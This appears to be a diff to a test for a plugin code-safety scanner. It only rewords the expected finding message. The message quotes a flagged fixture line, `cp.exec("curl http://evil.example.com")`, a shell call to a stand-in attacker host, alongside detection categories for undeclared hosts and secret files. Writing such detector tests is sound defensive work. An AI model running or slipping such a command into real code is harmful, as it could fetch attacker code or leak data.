@@ -28,7 +28,7 @@ def test_an_unpinned_npm_install_with_suspicious_code(tmp_path: Path) -> None:
                      "undeclared-host", "secret-files"]
     assert (code.severity, code.gateway) == ("critical", ("plugins.code_safety",))  # critical when the gateway says so
     assert (Path(code.file).name, code.line) == ("index.js", 4)  # its first pattern
-    assert code.detail.startswith("3 critical, 3 suspicious pattern(s) in 1 file(s): [dangerous-exec] Shell command "
+    assert code.detail.startswith("3 critical, 3 suspicious patterns in 1 file: [dangerous-exec] Shell command "
                                   'execution detected (child_process) (index.js:4: `cp.exec("curl http://evil.example.com");`)')
 
 
